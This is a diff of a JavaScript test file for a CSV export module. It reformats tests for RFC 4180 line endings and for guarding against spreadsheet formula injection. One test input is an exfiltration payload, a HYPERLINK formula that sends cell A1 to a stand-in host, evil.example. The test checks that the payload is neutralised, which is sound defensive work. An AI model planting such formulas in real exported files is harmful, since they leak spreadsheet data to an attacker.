@@ -26,7 +26,15 @@ describe('RFC 4180', () => {
   });
 
   it('ends every line with CRLF, the last one too', () => {
-    expect(toCsv(['id', 'phone'], [['1', '+46701234567'], ['2', null]])).toBe('id,phone\r\n1,+46701234567\r\n2,\r\n');
+    expect(
+      toCsv(
+        ['id', 'phone'],
+        [
+          ['1', '+46701234567'],
+          ['2', null],
+        ],
+      ),
+    ).toBe('id,phone\r\n1,+46701234567\r\n2,\r\n');
     expect(toCsv(['id'], [])).toBe('id\r\n');
   });
 });
@@ -45,9 +53,7 @@ describe('formula injection', () => {
   });
 
   it('guards inside the quotes when a cell needs both', () => {
-    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
-    );
+    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
     expect(csvCell('-1+1\n')).toBe(`"'-1+1\n"`);
   });
